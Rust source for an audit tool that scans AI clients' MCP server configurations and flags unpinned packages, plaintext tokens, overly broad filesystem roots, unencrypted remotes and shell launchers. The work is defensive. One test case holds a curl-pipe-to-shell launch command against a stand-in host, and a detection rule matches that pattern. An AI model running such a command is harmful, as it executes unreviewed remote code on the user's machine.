//! `warden mcp audit`: find the MCP configurations of the agents on this machine and report,
//! per server, what it runs and what is risky about it.
//!
//! Locations (all relative to the given home and project directories, so tests use a temp
//! HOME):
//!
//! | client | user config | project config |
//! |---|---|---|
//! | Claude Code | `~/.claude.json` (`mcpServers`, `projects.*.mcpServers`) | `.mcp.json` |
//! | Claude Desktop | `~/.config/Claude/claude_desktop_config.json`, `~/Library/Application Support/Claude/claude_desktop_config.json` | |
//! | Cursor | `~/.cursor/mcp.json` | `.cursor/mcp.json` |
//! | Windsurf | `~/.codeium/windsurf/mcp_config.json` | |
//! | Gemini CLI | `~/.gemini/settings.json` | `.gemini/settings.json` |
//! | VS Code | `~/.config/Code/User/mcp.json`, `settings.json` (`mcp.servers`) | `.vscode/mcp.json` (`servers`) |
//!
//! Findings (rules in [`crate::rules`]): unpinned packages (`MCP201`), plaintext tokens and
//! their kind (`MCP202`), filesystem roots that are too broad (`MCP203`), remote URLs without
//! TLS (`MCP204`), servers not behind the gateway (`MCP205`), shell launchers (`MCP206`).
//! Secret values are never included in a report.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Serialize;
use serde_json::Value;

use crate::redact::Redactor;

/// Largest config file read.
const MAX_CONFIG_BYTES: u64 = 16 * 1024 * 1024;

/// One configuration file of one client.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ClientConfig {
    /// `claude-code`, `claude-desktop`, `cursor`, `windsurf`, `gemini`, `vscode`.
    pub client: &'static str,
    pub path: PathBuf,
    /// `user` or `project`.
    pub scope: &'static str,
}

/// Every known configuration location, whether or not it exists.
pub fn candidates(home: &Path, project: Option<&Path>) -> Vec<ClientConfig> {
    let user = |client, rel: &str| ClientConfig {
        client,
        path: home.join(rel),
        scope: "user",
    };
    let mut out = vec![
        user("claude-code", ".claude.json"),
        user(
            "claude-desktop",
            ".config/Claude/claude_desktop_config.json",
        ),
        user(
            "claude-desktop",
            "Library/Application Support/Claude/claude_desktop_config.json",
        ),
        user("cursor", ".cursor/mcp.json"),
        user("windsurf", ".codeium/windsurf/mcp_config.json"),
        user("gemini", ".gemini/settings.json"),
        user("vscode", ".config/Code/User/mcp.json"),
        user("vscode", ".config/Code/User/settings.json"),
        user("vscode", "Library/Application Support/Code/User/mcp.json"),
    ];
    if let Some(p) = project {
        let proj = |client, rel: &str| ClientConfig {
            client,
            path: p.join(rel),
            scope: "project",
        };
        out.extend([
            proj("claude-code", ".mcp.json"),
            proj("cursor", ".cursor/mcp.json"),
            proj("gemini", ".gemini/settings.json"),
            proj("vscode", ".vscode/mcp.json"),
        ]);
    }
    out
}

/// The configuration files that exist.
pub fn discover(home: &Path, project: Option<&Path>) -> Vec<ClientConfig> {
    candidates(home, project)
        .into_iter()
        .filter(|c| c.path.is_file())
        .collect()
}

/// One server entry of a configuration.
#[derive(Debug, Clone, PartialEq, Default, Serialize)]
pub struct ServerEntry {
    pub name: String,
    /// JSON pointer of the entry in its file.
    pub pointer: String,
    pub command: Option<String>,
    pub args: Vec<String>,
    pub env: BTreeMap<String, String>,
    pub url: Option<String>,
    pub headers: BTreeMap<String, String>,
}

/// JSON pointers of the server tables in a configuration (`mcpServers`, VS Code's `servers`
/// and `mcp.servers`, and Claude Code's per-project `projects.*.mcpServers`).
pub fn server_tables(json: &Value) -> Vec<String> {
    let mut out = Vec::new();
    for key in ["/mcpServers", "/servers", "/mcp/servers"] {
        if json.pointer(key).is_some_and(Value::is_object) {
            out.push(key.to_string());
        }
    }
    if let Some(projects) = json.get("projects").and_then(Value::as_object) {
        for (k, v) in projects {
            if v.get("mcpServers").is_some_and(Value::is_object) {
                out.push(format!("/projects/{}/mcpServers", escape_pointer(k)));
            }
        }
    }
    out
}

/// Escape one JSON pointer segment.
pub fn escape_pointer(s: &str) -> String {
    s.replace('~', "~0").replace('/', "~1")
}

fn strings(v: Option<&Value>) -> Vec<String> {
    v.and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .map(|x| x.as_str().map_or_else(|| x.to_string(), str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn string_map(v: Option<&Value>) -> BTreeMap<String, String> {
    v.and_then(Value::as_object)
        .map(|m| {
            m.iter()
                .map(|(k, x)| {
                    (
                        k.clone(),
                        x.as_str().map_or_else(|| x.to_string(), str::to_string),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Every server entry in a configuration.
pub fn parse_servers(json: &Value) -> Vec<ServerEntry> {
    let mut out = Vec::new();
    for table in server_tables(json) {
        let Some(map) = json.pointer(&table).and_then(Value::as_object) else {
            continue;
        };
        for (name, entry) in map {
            let url = ["url", "serverUrl", "httpUrl"]
                .iter()
                .find_map(|k| entry.get(*k).and_then(Value::as_str))
                .map(str::to_string);
            out.push(ServerEntry {
                name: name.clone(),
                pointer: format!("{table}/{}", escape_pointer(name)),
                command: entry
                    .get("command")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                args: strings(entry.get("args")),
                env: string_map(entry.get("env")),
                url,
                headers: string_map(entry.get("headers")),
            });
        }
    }
    out
}

/// One finding about one server.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AuditFinding {
    pub rule: &'static str,
    /// `high`, `medium` or `low`.
    pub severity: &'static str,
    pub message: String,
}

/// The report on one server.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ServerReport {
    pub name: String,
    pub pointer: String,
    /// `stdio` or `remote`.
    pub transport: &'static str,
    /// The command line (secrets masked) or the URL.
    pub launch: String,
    pub behind_gateway: bool,
    pub findings: Vec<AuditFinding>,
    /// Set by a live audit.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub live: Option<LiveResult>,
}

/// The report on one configuration file.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ConfigReport {
    pub client: &'static str,
    pub scope: &'static str,
    pub path: PathBuf,
    /// Why the file could not be read, if it could not.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    pub servers: Vec<ServerReport>,
}

/// What a live audit found for one server.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct LiveResult {
    /// Error starting or listing, if any.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    pub tools: usize,
    pub pinned_now: Vec<String>,
    /// Tools withheld by the gateway until approved, with why.
    pub pending: Vec<(String, String)>,
    /// Poisoning findings by tool.
    pub poisoning: BTreeMap<String, Vec<crate::poison::Finding>>,
}

/// The whole audit.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Report {
    pub configs: Vec<ConfigReport>,
}

impl Report {
    /// Number of findings over every server.
    pub fn finding_count(&self) -> usize {
        self.configs
            .iter()
            .flat_map(|c| &c.servers)
            .map(|s| s.findings.len())
            .sum()
    }
}

/// Audit every configuration that exists under `home` and `project`.
pub fn audit(home: &Path, project: Option<&Path>, redactor: &dyn Redactor) -> Report {
    let configs = discover(home, project)
        .into_iter()
        .map(|c| audit_file(c, home, redactor))
        .collect();
    Report { configs }
}

/// Audit one configuration file.
pub fn audit_file(cfg: ClientConfig, home: &Path, redactor: &dyn Redactor) -> ConfigReport {
    let mut report = ConfigReport {
        client: cfg.client,
        scope: cfg.scope,
        path: cfg.path.clone(),
        error: None,
        servers: Vec::new(),
    };
    let json = match read_config(&cfg.path) {
        Ok(v) => v,
        Err(e) => {
            report.error = Some(e);
            return report;
        }
    };
    report.servers = parse_servers(&json)
        .iter()
        .map(|s| audit_server(s, home, redactor))
        .collect();
    report
}

/// Read and parse a JSON configuration (size-capped).
pub fn read_config(path: &Path) -> Result<Value, String> {
    let meta = std::fs::metadata(path).map_err(|e| e.to_string())?;
    if meta.len() > MAX_CONFIG_BYTES {
        return Err(format!("larger than {} MiB", MAX_CONFIG_BYTES >> 20));
    }
    let text = std::fs::read_to_string(path).map_err(|e| e.to_string())?;
    serde_json::from_str(&text)
        .map_err(|e| format!("not valid JSON ({e}); comments are not supported"))
}

/// Whether an entry already runs through `warden mcp proxy`.
pub fn is_wrapped(entry: &ServerEntry) -> bool {
    let Some(cmd) = &entry.command else {
        return false;
    };
    let base = Path::new(cmd)
        .file_name()
        .and_then(|s| s.to_str())
        .unwrap_or("");
    base == "warden"
        && entry.args.first().map(String::as_str) == Some("mcp")
        && entry.args.get(1).map(String::as_str) == Some("proxy")
}

/// The server command inside a wrapped entry (what `warden mcp proxy` runs), or the entry's
/// own command line.
pub fn inner_command(entry: &ServerEntry) -> Option<(String, Vec<String>)> {
    let cmd = entry.command.clone()?;
    if !is_wrapped(entry) {
        return Some((cmd, entry.args.clone()));
    }
    let sep = entry.args.iter().position(|a| a == "--")?;
    let (first, rest) = entry.args[sep + 1..].split_first()?;
    Some((first.clone(), rest.to_vec()))
}

/// Audit one server entry.
pub fn audit_server(entry: &ServerEntry, home: &Path, redactor: &dyn Redactor) -> ServerReport {
    let mut findings = Vec::new();
    let wrapped = is_wrapped(entry);
    let (transport, launch) = match (&entry.command, &entry.url) {
        (Some(cmd), _) => {
            let line = std::iter::once(cmd.as_str())
                .chain(entry.args.iter().map(String::as_str))
                .map(|a| mask(a, redactor))
                .collect::<Vec<_>>()
                .join(" ");
            ("stdio", line)
        }
        (None, Some(url)) => ("remote", mask(url, redactor)),
        (None, None) => ("stdio", String::new()),
    };
    if let Some((cmd, args)) = inner_command(entry) {
        check_package(&cmd, &args, &mut findings);
        check_shell(&cmd, &args, &mut findings);
        check_roots(&args, home, &mut findings);
        for (i, a) in args.iter().enumerate() {
            if let Some(kind) = secret_kind(a, redactor) {
                findings.push(AuditFinding {
                    rule: "MCP202",
                    severity: "high",
                    message: format!("argument {} holds a plaintext {kind}", i + 1),
                });
            }
        }
    }
    for (k, v) in &entry.env {
        if let Some(kind) = secret_kind(v, redactor).or_else(|| generic_secret(k, v)) {
            findings.push(AuditFinding {
                rule: "MCP202",
                severity: "high",
                message: format!("env `{k}` holds a plaintext {kind}"),
            });
        }
    }
    for (k, v) in &entry.headers {
        let value = v.strip_prefix("Bearer ").unwrap_or(v);
        if let Some(kind) = secret_kind(value, redactor).or_else(|| {
            generic_secret(k, value).or_else(|| {
                (k.eq_ignore_ascii_case("authorization")
                    && !is_reference(value)
                    && value.len() >= 8)
                    .then(|| "credential".to_string())
            })
        }) {
            findings.push(AuditFinding {
                rule: "MCP202",
                severity: "high",
                message: format!("header `{k}` holds a plaintext {kind}"),
            });
        }
    }
    if let Some(url) = &entry.url {
        if let Some(rest) = url.strip_prefix("http://") {
            let host = rest.split(['/', '?', '#']).next().unwrap_or("");
            let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
            let host = if host.starts_with('[') {
                host.split(']').next().unwrap_or("").trim_start_matches('[')
            } else {
                host.split(':').next().unwrap_or("")
            };
            let loopback = host == "localhost" || host == "::1" || host.starts_with("127.");
            if !loopback {
                findings.push(AuditFinding { rule: "MCP204", severity: "high", message: format!("remote server `{host}` over plain http: tokens and results travel unencrypted") });
            }
        }
        if entry.command.is_none() {
            findings.push(AuditFinding { rule: "MCP205", severity: "low", message: "remote server: the stdio gateway cannot wrap it yet (Streamable HTTP upstream is not built)".into() });
        }
    }
    if entry.command.is_some() && !wrapped {
        findings.push(AuditFinding { rule: "MCP205", severity: "medium", message: "not behind `warden mcp proxy`: no per-tool policy, pinning or redaction (fix: `warden mcp wrap`)".into() });
    }
    ServerReport {
        name: entry.name.clone(),
        pointer: entry.pointer.clone(),
        transport,
        launch,
        behind_gateway: wrapped,
        findings,
        live: None,
    }
}

fn is_reference(v: &str) -> bool {
    let t = v.trim();
    t.is_empty()
        || t.starts_with("${")
        || (t.starts_with('$')
            && t[1..]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_'))
        || t.starts_with("{{")
        || t.starts_with("op://")
        || t.starts_with("keychain:")
}

/// The kind of token a string is, by its well-known prefix, or what the secret scanner calls
/// it. `None` for references (`${VAR}`) and ordinary text.
pub fn secret_kind(v: &str, redactor: &dyn Redactor) -> Option<String> {
    let t = v.trim();
    if is_reference(t) {
        return None;
    }
    const PREFIXES: &[(&str, &str)] = &[
        ("github_pat_", "GitHub fine-grained personal access token"),
        (
            "ghp_",
            "GitHub classic personal access token (broad scopes; prefer a fine-grained token)",
        ),
        ("gho_", "GitHub OAuth token"),
        ("ghu_", "GitHub user-to-server token"),
        ("ghs_", "GitHub app installation token"),
        ("ghr_", "GitHub refresh token"),
        ("xoxb-", "Slack bot token"),
        (
            "xoxp-",
            "Slack user token (acts as the person; prefer a bot token)",
        ),
        ("xoxe.xoxp-", "Slack rotating user token"),
        ("xoxe.xoxb-", "Slack rotating bot token"),
        ("xapp-", "Slack app-level token"),
        ("xoxc-", "Slack browser session token"),
        ("xoxd-", "Slack browser session cookie"),
        ("sk-ant-", "Anthropic API key"),
        ("sk-proj-", "OpenAI project API key"),
        ("glpat-", "GitLab personal access token"),
        ("npm_", "npm access token"),
        ("sk_live_", "Stripe live secret key"),
        ("rk_live_", "Stripe live restricted key"),
        ("lin_api_", "Linear API key"),
        ("ntn_", "Notion integration token"),
        ("AKIA", "AWS access key id"),
        ("ASIA", "AWS temporary access key id"),
        ("AIza", "Google API key"),
    ];
    for (prefix, kind) in PREFIXES {
        if t.starts_with(prefix) && t.len() >= prefix.len() + 12 && !t.contains(char::is_whitespace)
        {
            return Some((*kind).to_string());
        }
    }
    let mut copy = t.to_string();
    if redactor.redact(&mut copy) > 0 {
        // The real scanner writes `[REDACTED:<rule-name>:<fingerprint>]`.
        let name = copy
            .split("[REDACTED:")
            .nth(1)
            .and_then(|r| r.split([':', ']']).next())
            .filter(|n| !n.is_empty());
        return Some(match name {
            Some(n) => format!("secret ({n})"),
            None => "secret".into(),
        });
    }
    None
}

/// A literal value under a secret-sounding name.
fn generic_secret(key: &str, value: &str) -> Option<String> {
    let k = key.to_ascii_uppercase();
    let named = [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "ACCESS_KEY",
        "PRIVATE_KEY",
        "CREDENTIAL",
        "AUTH",
    ]
    .iter()
    .any(|w| k.contains(w));
    (named
        && !is_reference(value)
        && value.trim().len() >= 8
        && !matches!(value.trim(), "true" | "false"))
    .then(|| "secret (by its name)".to_string())
}

fn mask(arg: &str, redactor: &dyn Redactor) -> String {
    if secret_kind(arg, redactor).is_some() {
        let keep: String = arg.chars().take(4).collect();
        return format!("{keep}…[masked]");
    }
    // `--token=VALUE` and URLs with credentials.
    if let Some((flag, value)) = arg.split_once('=')
        && secret_kind(value, redactor).is_some()
    {
        return format!("{flag}=[masked]");
    }
    arg.to_string()
}

fn basename(cmd: &str) -> &str {
    let b = Path::new(cmd)
        .file_name()
        .and_then(|s| s.to_str())
        .unwrap_or(cmd);
    b.strip_suffix(".cmd")
        .or_else(|| b.strip_suffix(".exe"))
        .unwrap_or(b)
}

/// Whether an npm package spec names an exact version.
pub fn npm_spec_pinned(spec: &str) -> bool {
    let (name_part, version) = match spec.strip_prefix('@') {
        Some(rest) => match rest.split_once('@') {
            Some((_, v)) => ("scoped", Some(v)),
            None => ("scoped", None),
        },
        None => match spec.split_once('@') {
            Some((_, v)) => ("plain", Some(v)),
            None => ("plain", None),
        },
    };
    let _ = name_part;
    match version {
        None => false,
        Some(v) => {
            let mut parts = v.split(['-', '+']).next().unwrap_or("").split('.');
            let ok = |p: Option<&str>| {
                p.is_some_and(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
            };
            ok(parts.next()) && ok(parts.next()) && ok(parts.next()) && parts.next().is_none()
        }
    }
}

fn check_package(cmd: &str, args: &[String], out: &mut Vec<AuditFinding>) {
    let b = basename(cmd);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (runner, rest): (&str, &[&str]) = match (b, args.first().copied()) {
        ("npx" | "bunx" | "pnpx", _) => (b, &args[..]),
        ("pnpm" | "yarn" | "bun", Some("dlx" | "x")) => (b, &args[1..]),
        ("npm", Some("exec" | "x")) => (b, &args[1..]),
        ("uvx", _) => ("uvx", &args[..]),
        ("uv", Some("tool")) if args.get(1) == Some(&"run") => ("uvx", &args[2..]),
        ("pipx", Some("run")) => ("uvx", &args[1..]),
        ("docker" | "podman", Some("run")) => ("docker", &args[1..]),
        _ => return,
    };
    match runner {
        "docker" => {
            let mut i = 0;
            while i < rest.len() {
                let a = rest[i];
                if a == "--" {
                    i += 1;
                    break;
                }
                if a.starts_with('-') {
                    let takes_value = matches!(
                        a,
                        "-e" | "--env"
                            | "-v"
                            | "--volume"
                            | "--name"
                            | "-p"
                            | "--publish"
                            | "--network"
                            | "--mount"
                            | "-w"
                            | "--workdir"
                            | "-u"
                            | "--user"
                            | "--entrypoint"
                            | "--env-file"
                            | "-l"
                            | "--label"
                            | "--platform"
                    );
                    i += if takes_value && !a.contains('=') {
                        2
                    } else {
                        1
                    };
                    continue;
                }
                break;
            }
            if let Some(image) = rest.get(i) {
                let tag = image
                    .rsplit('/')
                    .next()
                    .and_then(|last| last.split_once(':'))
                    .map(|(_, t)| t);
                if !image.contains("@sha256:") && matches!(tag, None | Some("latest")) {
                    out.push(AuditFinding { rule: "MCP201", severity: "medium", message: format!("image `{image}` is not pinned (use a version tag, better a @sha256 digest)") });
                }
            }
        }
        "uvx" => {
            let mut from = None;
            let mut pkg = None;
            let mut i = 0;
            while i < rest.len() {
                match rest[i] {
                    "--from" => {
                        from = rest.get(i + 1).copied();
                        i += 2;
                    }
                    a if a.starts_with('-') => i += 1,
                    a => {
                        pkg = Some(a);
                        break;
                    }
                }
            }
            if let Some(spec) = from.or(pkg)
                && !(spec.contains("==") || spec.contains('@'))
            {
                out.push(AuditFinding {
                    rule: "MCP201",
                    severity: "medium",
                    message: format!(
                        "package `{spec}` runs without a pinned version (`{spec}==X.Y.Z`)"
                    ),
                });
            }
        }
        _ => {
            let mut package = None;
            let mut i = 0;
            while i < rest.len() {
                match rest[i] {
                    "-p" | "--package" => {
                        package = rest.get(i + 1).copied();
                        i += 2;
                    }
                    a if a.starts_with("--package=") => {
                        package = a.split_once('=').map(|(_, v)| v);
                        i += 1;
                    }
                    "--" => {
                        i += 1;
                    }
                    a if a.starts_with('-') => i += 1,
                    a => {
                        if package.is_none() {
                            package = Some(a);
                        }
                        break;
                    }
                }
            }
            if let Some(spec) = package {
                let local = spec.starts_with('.')
                    || spec.starts_with('/')
                    || spec.contains("://")
                    || spec.starts_with("file:");
                if !local && !npm_spec_pinned(spec) {
                    out.push(AuditFinding { rule: "MCP201", severity: "medium", message: format!("`{runner} {spec}` runs whatever version the registry serves today (pin `{}@X.Y.Z`)", spec.rsplit_once('@').filter(|(n, _)| !n.is_empty()).map_or(spec, |(n, _)| n)) });
                }
            }
        }
    }
}

fn check_shell(cmd: &str, args: &[String], out: &mut Vec<AuditFinding>) {
    let b = basename(cmd);
    if matches!(
        b,
        "sh" | "bash" | "zsh" | "dash" | "fish" | "cmd" | "powershell" | "pwsh"
    ) && args
        .iter()
        .any(|a| matches!(a.as_str(), "-c" | "/c" | "-Command" | "-lc"))
    {
        let piped = args
            .iter()
            .any(|a| (a.contains("curl") || a.contains("wget")) && a.contains('|'));
        out.push(AuditFinding {
            rule: "MCP206",
            severity: if piped { "high" } else { "low" },
            message: if piped {
                "started through a shell that pipes a download into an interpreter".into()
            } else {
                "started through a shell; what it runs is opaque to review".into()
            },
        });
    }
}

fn check_roots(args: &[String], home: &Path, out: &mut Vec<AuditFinding>) {
    for a in args {
        let expanded = if a == "~" || a == "$HOME" || a == "${HOME}" {
            home.to_path_buf()
        } else if let Some(rest) = a.strip_prefix("~/") {
            home.join(rest)
        } else {
            PathBuf::from(a)
        };
        if !expanded.is_absolute() && !a.starts_with("~") {
            continue;
        }
        let norm: PathBuf = expanded.components().collect();
        let too_broad = norm == Path::new("/")
            || norm == home
            || home.starts_with(&norm)
            || matches!(
                norm.to_str(),
                Some("/home" | "/Users" | "/root" | "/etc" | "/var" | "/usr")
            )
            || a.len() <= 3 && a.ends_with(":\\");
        if too_broad {
            out.push(AuditFinding { rule: "MCP203", severity: "high", message: format!("root `{a}` is too broad: the server can reach every secret under it (give it the project directory)") });
        }
    }
}

/// Start one stdio server (the inner command of a wrapped entry), list its tools, run the
/// poisoning checks and pin them like the gateway does on first use (clean tools are pinned
/// when the server has no pins yet; anything else is recorded for `warden mcp approve`).
pub async fn live(
    entry: &ServerEntry,
    state_dir: Option<&Path>,
    cwd: Option<&Path>,
    timeout: std::time::Duration,
) -> LiveResult {
    let mut result = LiveResult {
        error: None,
        tools: 0,
        pinned_now: Vec::new(),
        pending: Vec::new(),
        poisoning: BTreeMap::new(),
    };
    let Some((cmd, args)) = inner_command(entry) else {
        result.error = Some("not a stdio server".into());
        return result;
    };
    let mut command = crate::ServerCommand::new(cmd).args(args);
    for (k, v) in &entry.env {
        command = command.env(k, v);
    }
    command.cwd = cwd.map(Path::to_path_buf);
    let mut client = match crate::client::StdioClient::spawn(&command, timeout) {
        Ok(c) => c,
        Err(e) => {
            result.error = Some(e.to_string());
            return result;
        }
    };
    let listed = async {
        client.initialize(serde_json::json!({})).await?;
        client.list_tools().await
    }
    .await;
    client.shutdown(std::time::Duration::from_secs(2)).await;
    let tools = match listed {
        Ok(t) => t,
        Err(e) => {
            result.error = Some(e.to_string());
            return result;
        }
    };
    result.tools = tools.len();
    let store = state_dir.map(crate::pin::PinStore::new);
    let others = store
        .as_ref()
        .map(|s| s.other_servers_tools(&entry.name))
        .unwrap_or_default();
    for t in &tools {
        let findings = crate::poison::check_tool(t, &others);
        if !findings.is_empty() {
            let name = t
                .get("name")
                .and_then(Value::as_str)
                .unwrap_or("<unnamed>")
                .to_string();
            result.poisoning.insert(name, findings);
        }
    }
    let Some(store) = store else { return result };
    if crate::pin::validate_server_name(&entry.name).is_err() {
        result.error = Some(format!(
            "server name `{}` cannot be pinned (use letters, digits, `_`, `-`, `.`)",
            entry.name
        ));
        return result;
    }
    match crate::pin::review_listing(&store, &entry.name, &tools, &others) {
        Ok(review) => {
            result.pinned_now = review.pinned_now;
            result.pending = review
                .pending
                .iter()
                .map(|(n, p)| (n.clone(), format!("{:?}", p.change).to_lowercase()))
                .collect();
        }
        Err(e) => result.error = Some(e.to_string()),
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::redact::NoRedaction;
    use serde_json::json;

    fn rules(entry: Value, home: &Path) -> Vec<&'static str> {
        let cfg = json!({"mcpServers": {"s": entry}});
        let e = &parse_servers(&cfg)[0];
        let mut r: Vec<&str> = audit_server(e, home, &NoRedaction)
            .findings
            .iter()
            .map(|f| f.rule)
            .collect();
        r.sort();
        r.dedup();
        r
    }

    #[test]
    fn npm_spec_table() {
        for (spec, pinned) in [
            ("@modelcontextprotocol/server-memory", false),
            ("@modelcontextprotocol/server-memory@2026.8.31", true),
            ("@modelcontextprotocol/server-memory@latest", false),
            ("@modelcontextprotocol/server-memory@^1.0.0", false),
            ("mcp-server@1.2.3", true),
            ("mcp-server@1.2.3-beta.1", true),
            ("mcp-server@1.2", false),
            ("mcp-server", false),
        ] {
            assert_eq!(npm_spec_pinned(spec), pinned, "{spec}");
        }
    }

    #[test]
    fn finding_table() {
        let home = Path::new("/home/me");
        let cases: Vec<(Value, &[&str])> = vec![
            (
                json!({"command":"npx","args":["-y","@modelcontextprotocol/server-memory"]}),
                &["MCP201", "MCP205"],
            ),
            (
                json!({"command":"npx","args":["-y","@modelcontextprotocol/server-memory@2026.8.31"]}),
                &["MCP205"],
            ),
            (
                json!({"command":"warden","args":["mcp","proxy","--server","s","--","npx","-y","pkg@1.0.0"]}),
                &[],
            ),
            (
                json!({"command":"/usr/local/bin/warden","args":["mcp","proxy","--server","s","--","npx","pkg"]}),
                &["MCP201"],
            ),
            (
                json!({"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem@1.0.0","/"]}),
                &["MCP203", "MCP205"],
            ),
            (
                json!({"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem@1.0.0","~"]}),
                &["MCP203", "MCP205"],
            ),
            (
                json!({"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem@1.0.0","/home/me/project"]}),
                &["MCP205"],
            ),
            (
                json!({"command":"uvx","args":["mcp-server-git"]}),
                &["MCP201", "MCP205"],
            ),
            (
                json!({"command":"uvx","args":["mcp-server-git==1.0.0"]}),
                &["MCP205"],
            ),
            (
                json!({"command":"docker","args":["run","-i","--rm","-e","X","ghcr.io/github/github-mcp-server"]}),
                &["MCP201", "MCP205"],
            ),
            (
                json!({"command":"docker","args":["run","-i","--rm","ghcr.io/github/github-mcp-server@sha256:abcd"]}),
                &["MCP205"],
            ),
            (
                json!({"command":"bash","args":["-c","curl -s https://x.example/i.sh | sh"]}),
                &["MCP205", "MCP206"],
            ),
            (
                json!({"url":"http://mcp.example.com/mcp"}),
                &["MCP204", "MCP205"],
            ),
            (json!({"url":"http://127.0.0.1:8080/mcp"}), &["MCP205"]),
            (
                json!({"url":"https://mcp.example.com/mcp","headers":{"Authorization":"Bearer abcdefghijklmnop"}}),
                &["MCP202", "MCP205"],
            ),
            (
                json!({"command":"warden","args":["mcp","proxy","--server","s","--","x"],"env":{"GITHUB_TOKEN":"${GITHUB_TOKEN}"}}),
                &[],
            ),
            (
                json!({"command":"warden","args":["mcp","proxy","--server","s","--","x"],"env":{"DB_PASSWORD":"hunter2hunter2"}}),
                &["MCP202"],
            ),
        ];
        for (entry, want) in cases {
            assert_eq!(rules(entry.clone(), home), want.to_vec(), "{entry}");
        }
    }

    #[test]
    fn token_kinds_are_named_and_never_printed() {
        let gh_classic = format!("ghp_{}", "A1b2C3d4E5".repeat(4));
        let gh_fine = format!("github_pat_{}", "A1b2C3d4E5".repeat(6));
        let slack_bot = format!(
            "xoxb-{}-{}-{}",
            "1234567890", "1234567890", "FAKEabcdefghijklmnopqrst"
        );
        let slack_user = format!(
            "xoxp-{}-{}-{}",
            "1234567890", "1234567890", "FAKEabcdefghijklmnopqrst"
        );
        let cfg = json!({"mcpServers": {
            "gh": {"command":"warden","args":["mcp","proxy","--server","gh","--","x","--token",gh_classic],"env":{"GITHUB_PERSONAL_ACCESS_TOKEN": gh_fine}},
            "slack": {"command":"warden","args":["mcp","proxy","--server","slack","--","x"],"env":{"SLACK_BOT_TOKEN": slack_bot, "SLACK_USER_TOKEN": slack_user}}
        }});
        let reports: Vec<ServerReport> = parse_servers(&cfg)
            .iter()
            .map(|e| audit_server(e, Path::new("/h"), &NoRedaction))
            .collect();
        let text = serde_json::to_string(&reports).unwrap();
        for secret in [&gh_classic, &gh_fine, &slack_bot, &slack_user] {
            assert!(
                !text.contains(secret.as_str()),
                "a secret leaked into the report"
            );
        }
        assert!(text.contains("GitHub classic personal access token"));
        assert!(text.contains("GitHub fine-grained personal access token"));
        assert!(text.contains("Slack bot token"));
        assert!(text.contains("Slack user token"));
    }

    #[test]
    fn discovers_every_client_under_a_temp_home() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let files = [
            (
                home.path().join(".claude.json"),
                json!({"mcpServers": {"a": {"command": "x"}}, "projects": {"/p": {"mcpServers": {"b": {"command": "y"}}}}}),
            ),
            (
                home.path()
                    .join(".config/Claude/claude_desktop_config.json"),
                json!({"mcpServers": {"c": {"command": "x"}}}),
            ),
            (
                home.path().join(".cursor/mcp.json"),
                json!({"mcpServers": {"d": {"command": "x"}}}),
            ),
            (
                home.path().join(".codeium/windsurf/mcp_config.json"),
                json!({"mcpServers": {"e": {"serverUrl": "https://x"}}}),
            ),
            (
                home.path().join(".gemini/settings.json"),
                json!({"mcpServers": {"f": {"httpUrl": "https://x"}}}),
            ),
            (
                project.path().join(".vscode/mcp.json"),
                json!({"servers": {"g": {"type": "stdio", "command": "x"}}}),
            ),
            (
                project.path().join(".mcp.json"),
                json!({"mcpServers": {"h": {"command": "x"}}}),
            ),
        ];
        for (path, v) in &files {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, v.to_string()).unwrap();
        }
        let report = audit(home.path(), Some(project.path()), &NoRedaction);
        let clients: Vec<&str> = report.configs.iter().map(|c| c.client).collect();
        for c in [
            "claude-code",
            "claude-desktop",
            "cursor",
            "windsurf",
            "gemini",
            "vscode",
        ] {
            assert!(clients.contains(&c), "{c} missing: {clients:?}");
        }
        let servers: Vec<String> = report
            .configs
            .iter()
            .flat_map(|c| c.servers.iter().map(|s| s.name.clone()))
            .collect();
        assert_eq!(servers.len(), 8, "{servers:?}");
        // A broken file is reported, not fatal.
        std::fs::write(home.path().join(".cursor/mcp.json"), "{ // comment\n}").unwrap();
        let report = audit(home.path(), Some(project.path()), &NoRedaction);
        assert!(report.configs.iter().any(|c| c.error.is_some()));
    }
}
